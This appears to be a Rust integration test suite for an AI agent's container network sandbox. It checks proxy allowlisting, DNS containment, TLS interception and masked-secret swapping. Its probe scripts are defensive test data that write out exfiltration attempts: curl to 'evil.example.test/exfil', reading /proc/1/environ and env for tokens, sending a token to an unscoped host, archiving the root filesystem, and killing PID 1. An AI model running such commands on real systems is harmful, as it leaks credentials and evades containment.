//! The network sandbox as production runs it, against real parts: a real
//! container on Podman (`--network none`, `scripts/ensure-podman.sh`), the
//! static `airut-init` with its relay as PID 1, the per-task proxy of
//! `airut::proxy` on its unix socket with its own CA (set up the way
//! `src/runtime/runner.rs` does: socket and CA mounted, masked secrets'
//! surrogates in the environment), real TLS to a local upstream
//! (`EchoUpstream`, reached as the upstream override of the allowlisted
//! hosts), and the real event log.
//!
//! A shell script stands in for Claude Code and probes the network with
//! the tools of the image: busybox (`nc`, `nslookup`) in the `FROM scratch`
//! image, `curl` and `bash` in the Debian one. Each case checks what the
//! command saw and, where the proxy saw something, the audit event. The
//! guarantees are listed in doc/security.md.

#![allow(
    clippy::unwrap_used,
    clippy::disallowed_types,
    clippy::disallowed_methods
)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use airut::config::Secret;
use airut::config::network::{MaskedSecretConfig, NetworkConfig};
use airut::events::*;
use airut::log::Log;
use airut::proxy::testing::EchoUpstream;
use airut::proxy::{Allowlist, AuditSink, Limits, TaskProxy, TaskSpec, spawn_task};
use airut::sandbox::ExecutionResult;
use airut::sandbox::run::{self, NetworkMode, RunRequest, Stopper};

use crate::sandbox::{
    Conv, busybox_spec, conv, debian_spec, engine, events, fake_claude, image, open_log,
    output_lines, request,
};

/// The masked secret's real value: must reach only the scoped host, never
/// the container nor the log.
const REAL_SECRET: &str = "ghp_NetsecRealValue0123456789abcdefXYZ";

const ALLOWLIST: &str = "domains: [api.example.test, other.example.test]\n";

/// Hosts routed to the echo upstream.
const HOSTS: &[&str] = &[
    "api.example.test",
    "other.example.test",
    "evil.example.test",
];

/// How long a probe may wait for anything (loaded 2-core machine).
const PATIENCE: Duration = Duration::from_secs(300);

/// One task's network sandbox: the proxy, its CA file, the upstream.
struct Sandbox {
    c: Conv,
    log: Log,
    proxy: Option<TaskProxy>,
    upstream: EchoUpstream,
    task: TaskId,
    ca: PathBuf,
    _audit: AuditSink,
}

async fn sandbox() -> Sandbox {
    let c = conv();
    let log = open_log(&c.root);
    let (audit, _writer) = AuditSink::spawn(log.clone());
    let upstream = EchoUpstream::start().await.unwrap();
    let mut network = NetworkConfig {
        sandbox_enabled: true,
        extra_ca_file: Some(upstream.ca_file.clone()),
        masked_secrets: BTreeMap::from([(
            "GH_TOKEN".to_owned(),
            MaskedSecretConfig {
                value: Secret::new(REAL_SECRET),
                scopes: vec!["api.example.test".into()],
                headers: vec!["Authorization".into()],
                allow_foreign_credentials: false,
            },
        )]),
        ..NetworkConfig::default()
    };
    for h in HOSTS {
        network
            .upstream_overrides
            .insert((*h).to_owned(), upstream.url.clone());
    }
    let task = TaskId::new();
    // As the runner does: a private directory holding socket and CA.
    let sockets = c.root.join("proxies");
    std::fs::create_dir_all(&sockets).unwrap();
    let proxy = spawn_task(
        TaskSpec {
            task,
            stream: c.stream.clone(),
            socket: sockets.join(format!("{task}.sock")),
            allowlist: Allowlist::parse(ALLOWLIST.as_bytes()),
            network,
            limits: Limits::default(),
        },
        audit.clone(),
    )
    .unwrap();
    let ca = sockets.join(format!("{task}.crt"));
    std::fs::write(&ca, proxy.ca_certificate_pem()).unwrap();
    Sandbox {
        c,
        log,
        proxy: Some(proxy),
        upstream,
        task,
        ca,
        _audit: audit,
    }
}

impl Sandbox {
    fn proxy(&self) -> &TaskProxy {
        self.proxy.as_ref().unwrap()
    }

    /// The container's request, as the runner makes it: relay mode, the
    /// task CA, the surrogates in the environment.
    async fn request(&self, debian: bool, script: &str) -> RunRequest {
        let engine = engine().await;
        let spec = if debian {
            debian_spec()
        } else {
            busybox_spec()
        };
        let tag = image(&engine, &self.log, &spec).await;
        let mut req = request(&self.c, &tag, fake_claude(&self.c, script), "");
        req.task = self.task;
        req.network = NetworkMode::Relay {
            socket: self.proxy().socket().to_owned(),
        };
        req.ca_cert = Some(self.ca.clone());
        req.env = self
            .proxy()
            .surrogates()
            .into_iter()
            .map(|(k, v)| (k, Secret::new(v)))
            .collect();
        req.limits.timeout = Some(PATIENCE);
        req
    }

    /// Runs `script` in the container; (result, stdout lines, events).
    async fn run(&self, debian: bool, script: &str) -> (ExecutionResult, Vec<String>, Vec<Event>) {
        let req = self.request(debian, script).await;
        let (_stopper, rx) = Stopper::new();
        let result = run::run(&engine().await, &self.log, &req, rx)
            .await
            .expect("run");
        let evs = self.events_settled().await;
        let out = output_lines(&evs, OutputStream::Stdout)
            .into_iter()
            .map(|(_, t)| t)
            .collect();
        (result, out, evs)
    }

    /// The stream's events once the audit writer has caught up (the
    /// proxy's events go through a channel; wait until two reads agree).
    async fn events_settled(&self) -> Vec<Event> {
        let mut last = events(&self.log, &self.c.stream).len();
        loop {
            tokio::time::sleep(Duration::from_millis(500)).await;
            let now = events(&self.log, &self.c.stream);
            if now.len() == last {
                return now;
            }
            last = now.len();
        }
    }
}

fn requests(evs: &[Event]) -> Vec<&ProxyRequestV1> {
    evs.iter()
        .filter_map(|e| match e {
            Event::ProxyRequest(r) => Some(r),
            _ => None,
        })
        .collect()
}

fn dns_queries(evs: &[Event]) -> Vec<&DnsQueryV1> {
    evs.iter()
        .filter_map(|e| match e {
            Event::DnsQuery(q) => Some(q),
            _ => None,
        })
        .collect()
}

/// The value after `key=` on the line starting with it.
fn field<'a>(out: &'a [String], key: &str) -> &'a str {
    out.iter()
        .find_map(|l| l.strip_prefix(key))
        .unwrap_or_else(|| panic!("no line {key}... in {out:#?}"))
}

/// A TCP listener on the host with nothing ever accepted from it; after
/// the run, [`HostService::connections`] tells whether anyone connected
/// (a connection made and closed still waits in the backlog).
struct HostService {
    listener: std::net::TcpListener,
    port: u16,
}

impl HostService {
    fn bind(ip: &str) -> HostService {
        let listener = std::net::TcpListener::bind((ip, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        HostService { listener, port }
    }

    fn connections(&self) -> usize {
        self.listener.set_nonblocking(true).unwrap();
        let mut n = 0;
        while self.listener.accept().is_ok() {
            n += 1;
        }
        n
    }
}

/// The host's own non-loopback IPv4 address, if it has one (no packet is
/// sent: a UDP "connect" only picks the route).
fn host_ip() -> Option<String> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.1:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then(|| ip.to_string())
}

/// `nc` from busybox: `open` if a TCP connection to ip:port was made.
fn nc_probe(label: &str, ip: &str, port: u16) -> String {
    format!(
        "if nc -w 10 {ip} {port} </dev/null >/dev/null 2>&1; then echo '{label}=open'; else echo '{label}=closed'; fi\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn direct_connections_to_ip_addresses_and_host_services_fail() {
    let sb = sandbox().await;
    let any = HostService::bind("0.0.0.0");
    let local = HostService::bind("127.0.0.1");
    let mut script = String::from("echo \"ifaces=$(ls /sys/class/net | tr '\\n' ' ')\"\n");
    let mut labels = vec![];
    let mut add = |label: &str, ip: &str, port: u16| {
        script.push_str(&nc_probe(label, ip, port));
        labels.push(label.to_owned());
    };
    add("public443", "1.1.1.1", 443);
    add("public80", "93.184.215.14", 80);
    // Where a host service could be reached from a container on other
    // network modes: the host's own address, slirp4netns' and pasta's
    // host aliases, Podman's bridge gateway.
    if let Some(ip) = host_ip() {
        add("host_ip_any", &ip, any.port);
    }
    add("slirp_host_any", "10.0.2.2", any.port);
    add("bridge_gw_any", "10.88.0.1", any.port);
    add("link_local_any", "169.254.1.2", any.port);
    // The host's 127.0.0.1 service, by its port on the container's
    // loopback (a different network namespace) and by a name.
    add("loopback_local", "127.0.0.1", local.port);
    add("loopback_any", "127.0.0.1", any.port);
    let (result, out, evs) = sb.run(false, &script).await;
    assert_eq!(result.outcome, airut::sandbox::Outcome::Success, "{evs:#?}");
    assert_eq!(field(&out, "ifaces="), "lo ", "loopback only: {out:?}");
    for l in &labels {
        assert_eq!(
            field(&out, &format!("{l}=")),
            "closed",
            "{l} was reachable: {out:#?}"
        );
    }
    assert_eq!(any.connections(), 0, "the 0.0.0.0 service was reached");
    assert_eq!(local.connections(), 0, "the 127.0.0.1 service was reached");
    // Nothing went through the proxy: no request to audit.
    assert!(requests(&evs).is_empty(), "{evs:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_ports_80_and_443_lead_anywhere() {
    let sb = sandbox().await;
    let ports = [21u16, 22, 25, 53, 443, 80, 3128, 8080, 8443, 9418];
    let mut script = String::new();
    for p in ports {
        script.push_str(&nc_probe(&format!("p{p}"), "127.0.0.1", p));
    }
    // By name too: every name resolves to 127.0.0.1, so a name on another
    // port is the same closed loopback port.
    script.push_str(
        "if wget -q -T 10 -O- http://api.example.test:8080/ >/dev/null 2>&1; then echo name8080=open; else echo name8080=closed; fi\n",
    );
    let (result, out, evs) = sb.run(false, &script).await;
    assert_eq!(result.outcome, airut::sandbox::Outcome::Success, "{evs:#?}");
    for p in ports {
        let expect = if matches!(p, 53 | 80 | 443) {
            "open" // the relay's own listeners
        } else {
            "closed"
        };
        assert_eq!(field(&out, &format!("p{p}=")), expect, "port {p}: {out:#?}");
    }
    assert_eq!(field(&out, "name8080="), "closed");
    // The bare connections to 80 and 443 sent no request: nothing was
    // forwarded, and nothing but refusals can be in the log.
    assert!(
        requests(&evs)
            .iter()
            .all(|r| r.decision != Decision::Allowed),
        "{evs:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_of_every_type_gets_loopback_or_nothing_and_is_recorded() {
    let sb = sandbox().await;
    let types = [
        ("a", 1u16),
        ("aaaa", 28),
        ("mx", 15),
        ("txt", 16),
        ("ns", 2),
        ("srv", 33),
        ("soa", 6),
        ("cname", 5),
    ];
    let mut script = String::new();
    for (t, _) in types {
        script.push_str(&format!(
            "echo '== {t}'; nslookup -type={t} {t}.probe.example.com 127.0.0.1 2>&1 | grep -v '^Server:' | grep -v '127.0.0.1:53'\n"
        ));
    }
    let (result, out, evs) = sb.run(false, &script).await;
    assert_eq!(result.outcome, airut::sandbox::Outcome::Success, "{evs:#?}");
    // The only address any answer holds is 127.0.0.1; no other record.
    for l in &out {
        let l = l.trim();
        if let Some(addr) = l.strip_prefix("Address:") {
            assert_eq!(addr.trim(), "127.0.0.1", "{out:#?}");
        }
        for bad in [
            "mail exchanger",
            "text =",
            "nameserver =",
            "canonical name",
            "origin =",
        ] {
            assert!(
                !l.contains(bad),
                "an upstream-looking answer: {l}\n{out:#?}"
            );
        }
    }
    let a_section: Vec<&String> = out
        .iter()
        .skip_while(|l| *l != "== a")
        .take_while(|l| *l != "== aaaa")
        .collect();
    assert!(
        a_section.iter().any(|l| l.contains("127.0.0.1")),
        "an A query gets 127.0.0.1: {out:#?}"
    );
    // Each query is in the log, with the relay's answer.
    let qs = dns_queries(&evs);
    for (t, code) in types {
        let name = format!("{t}.probe.example.com");
        let q = qs
            .iter()
            .find(|q| q.name == name && q.qtype == code)
            .unwrap_or_else(|| panic!("no network.dns_query for {name} type {code}: {qs:#?}"));
        assert_eq!(q.task, sb.task);
        assert_eq!(q.answer, if code == 1 { "loopback" } else { "empty" });
    }
    assert!(
        evs.iter()
            .any(|e| e.event_type().name() == "network.dns_query")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_allowlisted_host_gets_the_403_json_and_is_audited() {
    let sb = sandbox().await;
    let script = "\
        echo \"resolved=$(getent hosts evil.example.test | awk '{print $1}')\"\n\
        echo \"https=$(curl -sS --max-time 60 -w ' status=%{http_code}' https://evil.example.test/exfil?d=1 2>&1)\"\n\
        echo \"http=$(curl -sS --max-time 60 -w ' status=%{http_code}' http://evil.example.test/plain 2>&1)\"\n";
    let (result, out, evs) = sb.run(true, script).await;
    assert_eq!(result.outcome, airut::sandbox::Outcome::Success, "{evs:#?}");
    assert_eq!(field(&out, "resolved="), "127.0.0.1");
    let https = field(&out, "https=");
    let (body, status) = https.rsplit_once(" status=").unwrap();
    assert_eq!(status, "403", "{https}");
    let json: serde_json::Value = serde_json::from_str(body).unwrap();
    assert_eq!(json["error"], "blocked_by_network_allowlist", "{json}");
    let http = field(&out, "http=");
    assert!(
        http.ends_with(" status=403"),
        "plain http is refused too: {http}"
    );
    // Nothing reached the upstream; both refusals are audited.
    let mut up = sb.upstream;
    assert!(
        up.received.try_recv().is_err(),
        "the upstream got a request"
    );
    let reqs = requests(&evs);
    let https_ev = reqs
        .iter()
        .find(|r| r.host == "evil.example.test" && r.port == 443)
        .unwrap_or_else(|| panic!("{reqs:#?}"));
    assert_eq!(https_ev.decision, Decision::Blocked);
    assert_eq!(https_ev.status, Some(403));
    assert_eq!(https_ev.path, "/exfil?d=1");
    assert_eq!(https_ev.task, sb.task);
    assert!(
        reqs.iter().any(|r| r.host == "evil.example.test"
            && r.port == 80
            && r.decision != Decision::Allowed),
        "{reqs:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allowlisted_host_works_over_tls_verified_against_the_system_store() {
    let sb = sandbox().await;
    // No -k, no --cacert: curl trusts what the system store holds, which
    // the init extended with the task CA.
    let script = "\
        echo \"body=$(curl -sS --max-time 60 https://api.example.test/v1/models?x=1 2>&1)\"\n\
        echo \"pinned=$(curl -sS --max-time 60 --cacert /usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt https://api.example.test/ 2>&1 >/dev/null | head -c 60; echo \" rc=$?\")\"\n";
    let (result, out, evs) = sb.run(true, script).await;
    assert_eq!(result.outcome, airut::sandbox::Outcome::Success, "{evs:#?}");
    let json: serde_json::Value = serde_json::from_str(field(&out, "body=")).unwrap();
    assert_eq!(json["ok"], true);
    assert_eq!(json["method"], "GET");
    // Without the task CA the proxy's certificate is not trusted.
    assert!(
        field(&out, "pinned=").contains("SSL") || field(&out, "pinned=").contains("certificate"),
        "{out:#?}"
    );
    let mut up = sb.upstream;
    let got = up
        .received
        .try_recv()
        .expect("the upstream got the request");
    assert_eq!(got.path, "/v1/models?x=1");
    let reqs = requests(&evs);
    let ev = reqs
        .iter()
        .find(|r| r.path == "/v1/models?x=1")
        .unwrap_or_else(|| panic!("{reqs:#?}"));
    assert_eq!(ev.decision, Decision::Allowed);
    assert_eq!(ev.host, "api.example.test");
    assert_eq!((ev.port, ev.scheme.as_str()), (443, "https"));
    assert_eq!(ev.status, Some(200));
    assert_eq!(ev.upstream_override.as_deref(), Some(up.url.as_str()));
    assert_eq!(ev.task, sb.task);
}

/// Every string in the stream's events and every byte of the log's files.
fn assert_not_in_log(log_dir: &Path, evs: &[Event], needle: &str) {
    let dump = format!("{evs:?}");
    assert!(!dump.contains(needle), "the real secret is in an event");
    for entry in walk(log_dir) {
        let bytes = std::fs::read(&entry).unwrap_or_default();
        assert!(
            !bytes.windows(needle.len()).any(|w| w == needle.as_bytes()),
            "the real secret is in {}",
            entry.display()
        );
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = vec![];
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn masked_secret_reaches_only_its_scoped_host_and_never_the_container_or_log() {
    let sb = sandbox().await;
    let surrogate = sb
        .proxy()
        .surrogates()
        .into_iter()
        .find(|(k, _)| k == "GH_TOKEN")
        .unwrap()
        .1;
    assert_ne!(surrogate, REAL_SECRET);
    let script = "\
        echo \"token=$GH_TOKEN\"\n\
        tr '\\0' '\\n' < /proc/1/environ | sed 's/^/pid1: /'\n\
        env | sed 's/^/env: /'\n\
        echo \"scoped=$(curl -sS --max-time 60 -H \"Authorization: Bearer $GH_TOKEN\" https://api.example.test/repos 2>&1)\"\n\
        echo \"other=$(curl -sS --max-time 60 -H \"Authorization: Bearer $GH_TOKEN\" https://other.example.test/leak 2>&1)\"\n\
        tar -C / --exclude=./proc --exclude=./sys --exclude=./dev --exclude=./outbox -cf /outbox/rootfs.tar . 2>/dev/null; echo \"tar-exit=$?\"\n";
    let (result, out, evs) = sb.run(true, script).await;
    assert_eq!(result.outcome, airut::sandbox::Outcome::Success, "{evs:#?}");
    assert_eq!(field(&out, "token="), surrogate);
    assert!(
        out.iter()
            .any(|l| l == &format!("pid1: GH_TOKEN={surrogate}")),
        "{out:#?}"
    );
    assert!(
        out.iter()
            .any(|l| l == &format!("env: GH_TOKEN={surrogate}")),
        "{out:#?}"
    );
    for l in &out {
        assert!(
            !l.contains(REAL_SECRET),
            "the container saw the real secret: {l}"
        );
    }
    // Every file of the container (its image, the mounts, what the agent
    // wrote), archived from inside to the host: the real value is in none.
    let tarball = sb.c.mounts.outbox.join("rootfs.tar");
    let size = std::fs::metadata(&tarball).map(|m| m.len()).unwrap_or(0);
    assert!(
        size > 1_000_000,
        "the container's files were archived ({size} bytes): {out:#?}"
    );
    let grep = std::process::Command::new("grep")
        .args(["-c", "-F", "-a", REAL_SECRET])
        .arg(&tarball)
        .output()
        .expect("grep");
    assert_eq!(
        String::from_utf8_lossy(&grep.stdout).trim(),
        "0",
        "the real secret is in a file of the container"
    );
    let _ = std::fs::remove_file(&tarball);
    assert!(field(&out, "scoped=").contains("\"ok\":true"), "{out:#?}");
    assert!(field(&out, "other=").contains("\"ok\":true"), "{out:#?}");
    let mut up = sb.upstream;
    let mut got = vec![];
    while let Ok(r) = up.received.try_recv() {
        got.push(r);
    }
    let auth = |path: &str| {
        let r = got
            .iter()
            .find(|r| r.path == path)
            .unwrap_or_else(|| panic!("{got:#?}"));
        r.headers
            .iter()
            .find(|(k, _)| k == "authorization")
            .map(|(_, v)| v.clone())
            .unwrap()
    };
    assert_eq!(auth("/repos"), format!("Bearer {REAL_SECRET}"));
    assert_eq!(auth("/leak"), format!("Bearer {surrogate}"));
    let reqs = requests(&evs);
    let scoped = reqs.iter().find(|r| r.path == "/repos").unwrap();
    assert!(
        scoped
            .credentials
            .iter()
            .any(|c| c.secret == "GH_TOKEN" && c.action == CredentialAction::Swapped),
        "{scoped:#?}"
    );
    let other = reqs.iter().find(|r| r.path == "/leak").unwrap();
    assert!(
        other
            .credentials
            .iter()
            .all(|c| c.action != CredentialAction::Swapped),
        "{other:#?}"
    );
    assert_not_in_log(&sb.c.root.join("log"), &evs, REAL_SECRET);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_the_proxy_socket_the_container_has_no_network() {
    let mut sb = sandbox().await;
    // The relay lives in PID 1, which the kernel shields from SIGKILL sent
    // inside its namespace; the way the relay loses its way out is the
    // host side going away: the proxy shut down and the socket removed.
    let script = "\
        echo \"before=$(curl -sS --max-time 60 -o /dev/null -w '%{http_code}' https://api.example.test/before 2>&1)\"\n\
        kill -KILL 1 2>&1; echo \"init=$(cat /proc/1/comm)\"\n\
        touch /outbox/ready\n\
        i=0; while [ ! -e /inbox/go ] && [ $i -lt 600 ]; do sleep 0.5; i=$((i+1)); done\n\
        echo \"after=$(curl -sS --max-time 30 -o /dev/null -w '%{http_code}' https://api.example.test/after 2>&1; echo \" rc=$?\")\"\n\
        echo \"after80=$(curl -sS --max-time 30 -o /dev/null -w '%{http_code}' http://api.example.test/after80 2>&1; echo \" rc=$?\")\"\n\
        echo \"direct=$(curl -sS --max-time 10 -o /dev/null https://1.1.1.1/ 2>&1; echo \" rc=$?\")\"\n";
    let req = sb.request(true, script).await;
    let log = sb.log.clone();
    let ready = sb.c.mounts.outbox.join("ready");
    let go = sb.c.mounts.inbox.join("go");
    let running = tokio::spawn(async move {
        let (_stopper, rx) = Stopper::new();
        run::run(&engine().await, &log, &req, rx)
            .await
            .expect("run")
    });
    let deadline = tokio::time::Instant::now() + PATIENCE;
    while !ready.exists() {
        assert!(
            tokio::time::Instant::now() < deadline && !running.is_finished(),
            "the container never got ready"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let socket = sb.proxy().socket().to_owned();
    sb.proxy.take().unwrap().shutdown().await;
    assert!(!socket.exists(), "the proxy removes its socket");
    std::fs::write(&go, b"").unwrap();
    let result = running.await.unwrap();
    let evs = sb.events_settled().await;
    let out: Vec<String> = output_lines(&evs, OutputStream::Stdout)
        .into_iter()
        .map(|(_, t)| t)
        .collect();
    assert_eq!(result.outcome, airut::sandbox::Outcome::Success, "{evs:#?}");
    assert_eq!(field(&out, "before="), "200", "{out:#?}");
    assert_eq!(
        field(&out, "init="),
        "init",
        "PID 1 survives SIGKILL: {out:#?}"
    );
    for k in ["after=", "after80=", "direct="] {
        let v = field(&out, k);
        assert!(!v.starts_with("200") && !v.ends_with(" rc=0"), "{k}{v}");
    }
    let mut up = sb.upstream;
    let mut paths = vec![];
    while let Ok(r) = up.received.try_recv() {
        paths.push(r.path);
    }
    assert_eq!(
        paths,
        vec!["/before".to_owned()],
        "only the first request got out"
    );
    let reqs = requests(&evs);
    assert_eq!(reqs.len(), 1, "{reqs:#?}");
    assert_eq!(reqs[0].path, "/before");
}
